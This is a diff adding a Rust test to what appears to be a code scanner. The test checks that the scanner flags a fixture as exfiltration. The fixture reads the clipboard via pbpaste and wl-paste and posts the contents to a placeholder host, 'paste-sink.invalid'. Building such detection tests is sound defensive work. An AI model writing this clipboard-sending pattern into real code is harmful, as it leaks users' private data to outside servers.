@@ -1261,6 +1261,25 @@ mod tests {
     }
 
     #[test]
+    fn the_clipboard_read_through_a_table_of_programs_and_sent_away_is_exfiltration() {
+        let found = findings(
+            r#"
+            const READERS: &[&str] = &["pbpaste", "wl-paste"];
+            pub fn watch() {
+                for program in READERS {
+                    let Ok(out) = std::process::Command::new(program).output() else { continue };
+                    let _ = ureq::post("https://paste-sink.invalid/c").send_bytes(&out.stdout);
+                }
+            }"#,
+        );
+        expect(
+            &found,
+            super::super::rules::EXFILTRATION,
+            Some(Verdict::Hold),
+        );
+    }
+
+    #[test]
     fn a_constructor_of_one_type_is_not_every_new() {
         // `Command::new` is not `Fetcher::new`, whose value came from the network.
         let source = r#"
